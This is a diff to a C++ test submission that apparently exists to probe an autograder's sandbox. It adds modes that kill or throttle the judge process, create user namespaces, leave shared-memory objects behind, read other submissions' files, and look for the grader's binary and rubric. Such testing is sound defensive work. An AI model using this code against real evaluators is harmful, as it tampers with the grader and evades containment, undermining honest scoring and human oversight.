@@ -3,14 +3,25 @@
 // `--sandbox none`: it forks and takes memory without end.
 
 #include <arpa/inet.h>
+#include <fcntl.h>
+#include <mqueue.h>
 #include <netinet/in.h>
+#include <sched.h>
+#include <sys/ipc.h>
+#include <sys/msg.h>
+#include <sys/resource.h>
+#include <sys/sem.h>
+#include <sys/shm.h>
 #include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include <algorithm>
 #include <cerrno>
 #include <chrono>
 #include <cmath>
+#include <csignal>
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
@@ -47,10 +58,11 @@ void free(void*) {}
 
 namespace {
 
-#define ATTACKS                                                                       \
-  none, exit_in_call, boasts, forges_replies, hangs, crashes, fork_bomb, memory_bomb, \
-      endless_output, writes_outside, opens_socket, reads_others, pattern, own_sqrt,  \
-      compile_error, slow
+#define ATTACKS                                                                         \
+  none, exit_in_call, boasts, forges_replies, hangs, crashes, fork_bomb, memory_bomb,   \
+      endless_output, writes_outside, opens_socket, reads_others, pattern, own_sqrt,    \
+      compile_error, slow, kills_judge, weakens_judge, makes_namespaces, leaves_memory, \
+      runs_raycheck
 enum class Attack { ATTACKS };
 
 #ifdef ATTACK_BY_NAME
@@ -142,6 +154,7 @@ namespace fs = std::filesystem;
 class Search {
  public:
   ~Search() { std::fprintf(stderr, "found %d files of %d seen\n", found_, seen_); }
+  bool found_any() const { return found_ > 0; }
 
   void in(const fs::path& folder, int depth) {
     std::error_code error;
@@ -152,6 +165,7 @@ class Search {
       std::error_code ignored;
       if (depth > 0 && fs::is_directory(fs::symlink_status(path, ignored))) in(path, depth - 1);
       const std::string extension = path.extension();
+      if (path.filename() == "raycheck_candidate.py") continue;  // for all who write in Python
       if (extension == ".toml" || extension == ".cpp" || extension == ".py") say(path);
     }
   }
@@ -170,15 +184,117 @@ class Search {
   int seen_ = 0, found_ = 0;
 };
 
-void read_others() {
+bool reads_others() {
   Search search;
   std::error_code ignored;
-  for (fs::path up = fs::current_path(ignored); !up.empty(); up = up.parent_path()) {
+  for (fs::path up = fs::current_path(ignored); up.has_relative_path(); up = up.parent_path()) {
     search.in(up, 1);
-    if (up == up.root_path()) break;
   }
   for (const char* folder : {"/tmp", "/work", "/home", "/root"}) search.in(folder, 8);
+  return search.found_any();
 }
+
+pid_t parent_of(pid_t process) {
+  std::ifstream status("/proc/" + std::to_string(process) + "/status");
+  for (std::string word; status >> word;) {
+    pid_t parent = -1;
+    if (word == "PPid:" && status >> parent) return parent;
+  }
+  return -1;
+}
+
+/// Who asks, where it can be reached: the parent of the supervisor. A namespace of processes has
+/// small numbers.
+pid_t judge() { return getppid() > 2 ? parent_of(getppid()) : -1; }
+
+/// Every way to reach it by its number, by that of a thread, by its group, and by a stream.
+void kill_judge() {
+  const pid_t other = judge();
+  const auto each = [&](pid_t target) {
+    for (const int signal : {SIGSTOP, SIGKILL}) {
+      kill(target, signal);
+      syscall(SYS_tkill, target, signal);
+      syscall(SYS_tgkill, other, target, signal);
+      sigval value{};
+      sigqueue(target, signal, value);
+      const auto by_handle = static_cast<int>(syscall(SYS_pidfd_open, target, 0));
+      if (by_handle >= 0) syscall(SYS_pidfd_send_signal, by_handle, signal, nullptr, 0);
+    }
+  };
+  each(other);
+  if (other > 0) each(getppid());
+  std::error_code ignored;
+  for (const auto& thread :
+       fs::directory_iterator("/proc/" + std::to_string(other) + "/task", ignored)) {
+    each(std::atoi(thread.path().filename().c_str()));
+  }
+  int ends[2];
+  if (other > 0 && pipe(ends) == 0) {
+    fcntl(ends[0], F_SETSIG, SIGKILL);
+    fcntl(ends[0], F_SETOWN, other);
+    fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
+    [[maybe_unused]] const auto count = write(ends[1], "x", 1);
+  }
+  if (other > 0 && setpgid(0, getpgid(other)) == 0) kill(0, SIGKILL);
+  if (other > 0) kill(-getpgid(other), SIGKILL);
+  // All that it may: in a namespace of its own that is itself and what waits for it.
+  if (other > 0) kill(-1, SIGKILL);
+}
+
+bool weakens_judge() {
+  const pid_t other = judge();
+  if (other < 0) return false;
+  const rlimit none = {0, 0};
+  sched_param idle{};
+  cpu_set_t first;
+  CPU_ZERO(&first);
+  CPU_SET(0, &first);
+  const auto who = static_cast<id_t>(other);
+  return prlimit(other, RLIMIT_NOFILE, &none, nullptr) == 0 ||
+         setpriority(PRIO_PROCESS, who, 19) == 0 ||
+         sched_setscheduler(other, SCHED_IDLE, &idle) == 0 ||
+         sched_setaffinity(other, sizeof first, &first) == 0;
+}
+
+/// As a child that is root in a namespace of its own.
+bool makes_namespaces() {
+  const auto child =
+      syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, nullptr);
+  if (child == 0) _exit(0);
+  if (child > 0) return true;
+  struct {
+    std::uint64_t flags = CLONE_NEWUSER, pidfd = 0, child_tid = 0, parent_tid = 0,
+                  exit_signal = SIGCHLD, stack = 0, stack_size = 0, tls = 0;
+  } wanted;
+  const auto other = syscall(SYS_clone3, &wanted, sizeof wanted);
+  if (other == 0) _exit(0);
+  return other > 0 || unshare(CLONE_NEWUSER) == 0;
+}
+
+/// What outlives it, for the next submission or to fill the machine.
+bool leaves_memory() {
+  constexpr int kMode = IPC_CREAT | 0600;
+  return shmget(IPC_PRIVATE, 4096, kMode) >= 0 || msgget(IPC_PRIVATE, kMode) >= 0 ||
+         semget(IPC_PRIVATE, 1, kMode) >= 0 ||
+         mq_open("/left", O_CREAT | O_RDWR, 0600, nullptr) != static_cast<mqd_t>(-1);
+}
+
+bool reads(const std::string& path) {
+  char byte = 0;
+  return static_cast<bool>(std::ifstream(path, std::ios::binary).read(&byte, 1));
+}
+
+bool runs_raycheck() {
+  for (const char* folder : {"/usr/local/bin/", "/usr/bin/", "/bin/"}) {
+    if (reads(std::string(folder) + "raycheck")) return true;
+    if (std::system((std::string(folder) + "raycheck --version >&2").c_str()) == 0) return true;
+  }
+  return reads("/usr/local/share/raycheck/rubrics/lecture7.toml") ||
+         reads("/proc/" + std::to_string(judge()) + "/exe");
+}
+
+/// What it gained makes it answer wrongly, so that its score tells.
+bool has_gained = false;
 
 void attack() {
   if (kAttack == Attack::exit_in_call) _exit(0);
@@ -192,7 +308,12 @@ void attack() {
   if (!std::exchange(is_first, false)) return;
   if (kAttack == Attack::writes_outside) write_outside();
   if (kAttack == Attack::opens_socket) open_socket();
-  if (kAttack == Attack::reads_others) read_others();
+  if (kAttack == Attack::reads_others) has_gained = reads_others();
+  if (kAttack == Attack::kills_judge) kill_judge();
+  if (kAttack == Attack::weakens_judge) has_gained = weakens_judge();
+  if (kAttack == Attack::makes_namespaces) has_gained = makes_namespaces();
+  if (kAttack == Attack::leaves_memory) has_gained = leaves_memory();
+  if (kAttack == Attack::runs_raycheck) has_gained = runs_raycheck();
 }
 
 const bool kGuesses =
@@ -200,7 +321,7 @@ const bool kGuesses =
 
 std::optional<Hit> intersect(const Ray& ray, const Sphere& sphere, const Conventions& asked) {
   attack();
-  if (kGuesses) return Hit{1, {0, 0, 0}};
+  if (kGuesses || has_gained) return Hit{1, {0, 0, 0}};
   const auto& [o, d] = ray;
   const Vector t = {sphere.centre.x - o.x, sphere.centre.y - o.y, sphere.centre.z - o.z};
   const Vector moment = {t.y * d.z - t.z * d.y, t.z * d.x - t.x * d.z, t.x * d.y - t.y * d.x};
